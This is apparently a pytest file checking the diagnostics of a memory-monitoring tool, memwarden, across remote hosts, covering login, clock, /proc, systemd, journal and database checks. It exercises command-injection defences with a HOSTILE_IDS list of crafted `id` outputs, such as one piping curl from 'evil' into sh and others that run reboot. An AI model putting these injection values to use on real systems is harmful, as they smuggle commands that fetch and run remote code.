"""Everything that could be wrong is found, with its remedy."""

from __future__ import annotations

import re
from datetime import timedelta
from typing import ClassVar

import pytest

from bot.domain.finding import Finding, State
from bot.errors import (
    CommandTimedOut,
    ConfigError,
    HostError,
    HostKeyChanged,
    HostKeyUnknown,
    HostUnreachable,
    LoginRefused,
    Mistake,
    StoreError,
)
from bot.flows import doctor
from tests.cases import MADE_DOCKER, MADE_HIDEPID, SEED_AS_ROOT, SEED_AS_USER, captured
from tests.conversations.ops import Ops
from tests.fakes.clock import START
from tests.fakes.store import MemoryStore

WEB = '[[host]]\nname = "web-1"\n'


def healthy(configuration: str = WEB, case: str = SEED_AS_ROOT) -> Ops:
    ops = Ops(configuration)
    for name in ops.hosts.shells:
        shell = ops.hosts[name]
        shell.says("id", b"uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),4(adm)\n")
        shell.says("date", f"{START.timestamp():.0f}\n".encode())
        shell.says("sh", captured(case))
        shell.says("systemctl", b"running\n")
        shell.says("journalctl", b"2026-03-02T14:00:00+0000 web-1 sshd[7]: hello\n")
    return ops


def found(ops: Ops) -> dict[str, Finding]:
    """Return what the doctor finds of the first host, by subject."""
    name = ops.ports.config.hosts[0].name
    findings = doctor.hosts(ops.ports, (name,))
    return {finding.subject.removeprefix(f"{name}: "): finding for finding in findings}


def states(findings: dict[str, Finding]) -> dict[str, str]:
    return {subject: finding.state.value for subject, finding in findings.items()}


def test_nothing_is_wrong_with_a_healthy_host() -> None:
    seen = found(healthy())

    assert {subject: finding.sentence for subject, finding in seen.items()} == {
        "login": "logged in as deploy; the host key is the pinned one",
        "clock": "agrees with ours to 5 s",
        "probe": seen["probe"].sentence,
        "what it may read": seen["what it may read"].sentence,
        "systemd": "runs this host (running)",
        "journal": "can be read",
    }
    assert set(states(seen).values()) == {"right"}
    assert seen["probe"].sentence == "answers; -1 % of 961 MiB is unaccounted"
    assert seen["what it may read"].sentence.startswith("everything: PSS of all ")


def test_the_examination_keeps_nothing() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("sh", captured(SEED_AS_USER))

    found(ops)

    assert {ran.argv[0] for ran in ops.hosts["web-1"].ran} == {"id", "date", "sh", "systemctl", "journalctl"}


@pytest.mark.parametrize(
    ("error", "remedy"),
    [
        (HostUnreachable("web-1 is off."), "See that it runs, and that `address`, `port` and `jump`"),
        (HostKeyUnknown("Not pinned."), "Run `memwarden trust web-1`"),
        (HostKeyChanged("Another key."), "Find out why before anything else"),
        (LoginRefused("No."), "See `user`, `key_file` and `passphrase` of web-1"),
        (CommandTimedOut("Late."), "See how busy that host is, or raise `timeout`"),
    ],
)
def test_a_host_that_cannot_be_reached_is_one_finding(error: HostError, remedy: str) -> None:
    ops = healthy()
    ops.hosts["web-1"].fails(error)

    seen = found(ops)

    assert states(seen) == {"login": "wrong"}
    assert seen["login"].sentence == str(error)
    assert seen["login"].remedy.startswith(remedy)


def test_one_host_that_is_down_hides_no_other() -> None:
    ops = healthy(WEB + '[[host]]\nname = "db-2"\n')
    ops.hosts["web-1"].fails(HostUnreachable("web-1 is off."))

    findings = doctor.hosts(ops.ports, ("web-1", "db-2"))

    assert [finding.state for finding in findings] == [State.WRONG, *[State.RIGHT] * 6]


@pytest.mark.parametrize(
    ("ahead_s", "state", "sentence"),
    [
        (4, "right", "agrees with ours to 5 s"),
        (-4, "right", "agrees with ours to 5 s"),
        (12, "note", "is 12 s ahead of ours"),
        (-30, "note", "is 30 s behind ours"),
        (3600, "wrong", "is 1 h ahead of ours"),
    ],
)
def test_a_clock_that_is_off(ahead_s: int, state: str, sentence: str) -> None:
    ops = healthy()
    there = START + timedelta(seconds=ahead_s)
    ops.hosts["web-1"].says("date", f"{there.timestamp():.0f}\n".encode())

    clock = found(ops)["clock"]

    assert (clock.state, clock.sentence) == (state, sentence)
    assert bool(clock.remedy) == (state != "right")


@pytest.mark.parametrize("said", [b"", b"date: invalid\n", b"9" * 40])
def test_a_clock_that_cannot_be_read_is_worth_a_note(said: bytes) -> None:
    ops = healthy()
    ops.hosts["web-1"].says("date", said)

    assert found(ops)["clock"].state in {State.NOTE, State.WRONG}


@pytest.mark.parametrize(
    ("configuration", "remedy"),
    [
        (WEB, "`deploy ALL=(root) NOPASSWD: /usr/bin/awk` there with visudo and set `sudo = true` for web-1"),
        (WEB + "sudo = true\n", "`deploy ALL=(root) NOPASSWD: /usr/bin/awk` there with visudo."),
    ],
)
def test_processes_that_only_root_may_read_are_a_note_with_the_rule(configuration: str, remedy: str) -> None:
    note = found(healthy(configuration, SEED_AS_USER))["what it may read"]

    assert "`memwarden host-setup web-1`" in note.remedy
    assert note.state == State.NOTE
    assert note.sentence.startswith("not PSS of ")
    assert remedy in note.remedy


def test_processes_that_are_hidden_are_a_note_with_the_mount_option() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("sh", captured(MADE_HIDEPID), stderr=b"awk: not allowed\n", status=1)

    notes = [f for f in doctor.hosts(ops.ports, ("web-1",)) if "what it may read" in f.subject]

    assert any("gid=" in note.remedy for note in notes)


def test_exact_figures_that_are_switched_off_are_a_note() -> None:
    ops = healthy(f"[check]\ndeep_budget_gib = 0.0\n{WEB}")

    assert "`deep_budget_gib`" in found(ops)["what it may read"].remedy


def test_a_host_without_proc_is_wrong_and_looked_at_further() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("sh", stderr=b"sh: cd: /proc: No such file\n", status=2)

    seen = found(ops)

    assert states(seen) == {
        "login": "right",
        "clock": "right",
        "probe": "wrong",
        "systemd": "right",
        "journal": "right",
    }
    assert seen["probe"].remedy.startswith("It needs /proc")


@pytest.mark.parametrize("said", [b"", b"offline\n", b"unknown\n"])
def test_a_host_without_systemd_is_worth_a_note(said: bytes) -> None:
    ops = healthy()
    ops.hosts["web-1"].says("systemctl", said, status=1)

    assert found(ops)["systemd"].state is State.NOTE


def test_a_degraded_system_is_still_one_of_systemd() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("systemctl", b"degraded\n", status=1)

    assert found(ops)["systemd"].sentence == "runs this host (degraded)"


@pytest.mark.parametrize(
    ("stdout", "stderr"),
    [
        (b"-- No entries --\n", b""),
        (b"", b"No journal files were opened due to insufficient permissions.\n"),
        (
            b"2026-03-02T14:00:00+0000 web-1 systemd[9]: mine\n",
            b"Hint: You are currently not seeing messages from other users and the system.\n",
        ),
    ],
)
def test_a_journal_that_may_not_be_read_is_a_note_with_the_group(stdout: bytes, stderr: bytes) -> None:
    ops = healthy()
    ops.hosts["web-1"].says("journalctl", stdout, stderr=stderr)

    journal = found(ops)["journal"]

    assert journal.state is State.NOTE
    assert journal.remedy == "Run `sudo usermod -aG systemd-journal deploy` there."


def rewritten(case: str, **kib: int | None) -> bytes:
    """Return a captured answer with other numbers in /proc/meminfo; None leaves the line out."""
    text = captured(case).decode()
    for key, value in kib.items():
        line = "" if value is None else rf"\1{key}: {value} kB\n"
        text, count = re.subn(rf"(?m)^(\s*){key}:.*\n", line, text, count=1)
        assert count == 1
    return text.encode()


def test_a_host_whose_level_cannot_be_known_is_wrong() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("sh", rewritten(SEED_AS_ROOT, MemAvailable=None))

    seen = found(ops)

    assert states(seen)["level"] == "wrong"
    assert "does not tell what is available" in seen["level"].sentence
    assert "grep MemAvailable" in seen["level"].remedy


def test_a_kernel_that_is_too_old_to_tell_is_to_be_updated() -> None:
    ops = healthy()
    old = rewritten(SEED_AS_ROOT, MemAvailable=None)
    ops.hosts["web-1"].says("sh", re.sub(rb"(?m)^(\s*k)6\..*$", rb"\g<1>3.2.0-4-amd64", old))

    assert "3.14" in found(ops)["level"].remedy


@pytest.mark.parametrize(
    ("total_kib", "state", "told"),
    [
        (1_060_000, "right", "6 % of 1.0 GiB is unaccounted"),
        (1_200_000, "note", "no process holds it, and no counter of the kernel tells of it"),
        (860_000, "note", "answers, but tells 16 % more than the 840 MiB there are"),
    ],
)
def test_much_that_no_line_explains_is_a_note(total_kib: int, state: str, told: str) -> None:
    ops = healthy()
    ops.hosts["web-1"].says("sh", rewritten(SEED_AS_ROOT, MemTotal=total_kib))

    probe = found(ops)["probe"]

    assert probe.state == state
    assert told in probe.sentence
    assert bool(probe.remedy) == (state != "right")


def test_a_container_that_sees_the_whole_machine_has_much_unaccounted() -> None:
    ops = healthy(f"[check]\ndeep_budget_gib = 0.0\n{WEB}", MADE_DOCKER)

    probe = found(ops)["probe"]

    assert probe.state is State.NOTE
    assert probe.sentence.endswith("it is a container that does not see other processes")


HOSTILE_IDS = [
    b"uid=0(x;curl${IFS}evil|sh) gid=0(root)\n",
    b"uid=0(`reboot`) gid=0(root)\n",
    b"uid=0($(reboot)) gid=0(root)\n",
    b"uid=0(-rf) gid=0(root)\n",
    b"uid=0(a\tb) gid=0(root)\n",
    b"",
    b"sh: id: not found\n",
]


@pytest.mark.parametrize("said", HOSTILE_IDS)
def test_a_host_writes_nothing_into_a_command_that_people_run(said: bytes) -> None:
    ops = healthy(WEB, SEED_AS_USER)
    ops.hosts["web-1"].says("id", said)
    ops.hosts["web-1"].says("journalctl", b"")

    seen = found(ops)

    assert seen["journal"].remedy == "Run `sudo usermod -aG systemd-journal LOGIN` there."
    assert "`LOGIN ALL=(root) NOPASSWD" in seen["what it may read"].remedy


@pytest.mark.parametrize("name", ["deploy", "_apt", "j.doe-2", "HOST$", "Ops"])
def test_a_usual_name_of_a_login_is_told(name: str) -> None:
    ops = healthy()
    ops.hosts["web-1"].says("id", f"uid=1000({name}) gid=1000({name})\n".encode())

    assert found(ops)["login"].sentence.startswith(f"logged in as {name};")


@pytest.mark.parametrize("said", [b"", b"who knows\n", b"\xff\xfe"])
@pytest.mark.parametrize("host", [WEB, WEB + 'address = "local"\n'])
def test_a_host_that_does_not_tell_as_whom_is_a_note(said: bytes, host: str) -> None:
    ops = healthy(host)
    ops.hosts["web-1"].says("id", said)

    login = found(ops)["login"]

    assert login.state is State.NOTE
    assert "`id` does not tell as whom" in login.sentence
    assert login.remedy


def test_a_login_without_a_name_is_told_by_its_number() -> None:
    ops = healthy()
    ops.hosts["web-1"].says("id", b"uid=1000 gid=1000\n")

    assert found(ops)["login"].sentence.startswith("logged in as user 1000;")


def test_a_host_that_names_nobody_still_gets_a_rule() -> None:
    ops = healthy(WEB + 'user = "ops"\n', SEED_AS_USER)
    ops.hosts["web-1"].says("id", b"who knows\n")

    assert "`ops ALL=(root)" in found(ops)["what it may read"].remedy


def test_a_database_that_can_be_written_keeps_one_line_however_often_it_is_examined() -> None:
    class Counting(MemoryStore):
        kept: ClassVar[set[str]] = set()

        def keep_words(self, words: str) -> str:
            self.kept.add(words)
            return super().keep_words(words)

    finding, again = (doctor.database("memwarden.sqlite3", Counting) for _ in range(2))

    assert (finding.state, finding.sentence) == (State.RIGHT, "memwarden.sqlite3 can be read and written")
    assert again == finding
    assert len(Counting.kept) == 1


def test_a_database_that_is_not_there_yet_is_a_note_if_it_can_be_made() -> None:
    coming = doctor.no_database("memwarden.sqlite3", can_be_made=True)
    never = doctor.no_database("memwarden.sqlite3", can_be_made=False)

    assert (coming.state, coming.sentence) == (
        State.NOTE,
        "there is none yet; `memwarden run` makes memwarden.sqlite3",
    )
    assert never.state is State.WRONG
    assert "writable" in never.remedy


def test_a_database_that_cannot_be_opened_or_written_is_wrong() -> None:
    def full() -> MemoryStore:
        raise StoreError("The disk is full.")

    read_only = MemoryStore()
    read_only.fails(StoreError("It is read-only."))

    findings = [doctor.database("x", full), doctor.database("x", lambda: read_only)]

    assert [finding.sentence for finding in findings] == ["The disk is full.", "It is read-only."]
    assert {finding.state for finding in findings} == {State.WRONG}


def test_every_mistake_of_the_configuration_is_a_finding() -> None:
    error = ConfigError("config.toml", (Mistake("bot.x", "no such key", 2), Mistake("", "expected `=`", 9)))

    assert [finding.sentence for finding in doctor.mistakes(error)] == [
        "config.toml:2: bot.x: no such key",
        "config.toml:9: expected `=`",
    ]


def test_a_right_configuration_and_what_it_lacks() -> None:
    findings = doctor.configuration("config.toml", 2, ["config.toml: host[0].key_file: nowhere"])

    assert [(finding.state, finding.sentence) for finding in findings] == [
        (State.RIGHT, "config.toml is right (2 hosts)"),
        (State.WRONG, "config.toml: host[0].key_file: nowhere"),
    ]
    assert doctor.configuration(None, 1, ())[0].state is State.NOTE
